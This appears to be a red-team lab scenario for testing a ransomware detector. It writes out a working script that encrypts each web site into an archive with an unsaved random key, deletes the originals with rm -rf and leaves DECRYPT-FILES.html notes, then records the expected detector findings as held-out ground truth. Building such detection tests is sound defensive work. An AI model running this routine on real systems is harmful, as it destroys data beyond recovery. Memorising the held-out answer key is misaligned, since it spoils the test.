# carol (ssh, real sshd) runs a script from her cache: each web site is tar'ed into openssl enc through a pipe,
# then deleted; a note is left where each site was.
HOST=web05.corp.example
SUMMARY="Attack (archive-and-delete through a pipe): carol logs in over ssh and runs ~/.cache/pk.sh: for each web site, tar czf - SITE | openssl enc -aes-256-cbc -pbkdf2 -out SITE.tgz.enc, then rm -rf SITE and DECRYPT-FILES.html in its place and in the web root. No sudo: carol owns the sites. Host rule set."
WWW=/srv/rt-lab/var/www
targets() { find "$WWW" -type f | sort; }

scenario_prepare() {
    install -d -o carol -g carol /srv/rt-lab/home/carol/.cache
    rt_note_html > /srv/rt-lab/home/carol/.cache/d.html
    cat > /srv/rt-lab/home/carol/.cache/pk.sh <<'SH'
#!/bin/bash
K=$(openssl rand -hex 16)
cd /srv/rt-lab/var/www || exit 1
for site in */; do
    site=${site%/}
    tar czf - "$site" | openssl enc -aes-256-cbc -pbkdf2 -pass "pass:$K" -out "$site.tgz.enc" && rm -rf "$site"
    mkdir "$site" && cp ~/.cache/d.html "$site/DECRYPT-FILES.html"
done
cp ~/.cache/d.html DECRYPT-FILES.html
SH
    chown -R carol:carol /srv/rt-lab/home/carol/.cache; chmod 755 /srv/rt-lab/home/carol/.cache/pk.sh
    chown carol:carol "$WWW"
    targets > "$RT_OPT.targets"; N_FILES=$(wc -l < "$RT_OPT.targets")
}
scenario_run() {
    rt_attack as_ssh carol "bash .cache/pk.sh"
}
scenario_verify() {
    rt_check originals-left "$(find "$WWW" -type f ! -name DECRYPT-FILES.html ! -name '*.tgz.enc' | wc -l)" 0 &&
    rt_check archives "$(find "$WWW" -name '*.tgz.enc' | wc -l)" 2 &&
    rt_check notes "$(find "$WWW" -name DECRYPT-FILES.html | wc -l)" 3
}
scenario_truth() {
    cat <<Y
split: held-out   # recorded after the detector change (issue 16), never used to tune it
expected:
  - rootExe: /usr/bin/bash
    rootCommandContains: "pk.sh"
    loginUser: carol
    runAsUser: carol
    filesAffected: $N_FILES
    overwrite: archived-then-deleted
    newExtension: null
    notes: { name: DECRYPT-FILES.html, directories: 3 }
    tools: [tar, openssl]
    targetRoots: [$WWW]
Y
}
scenario_cleanup() { rm -f "$RT_OPT.targets"; }
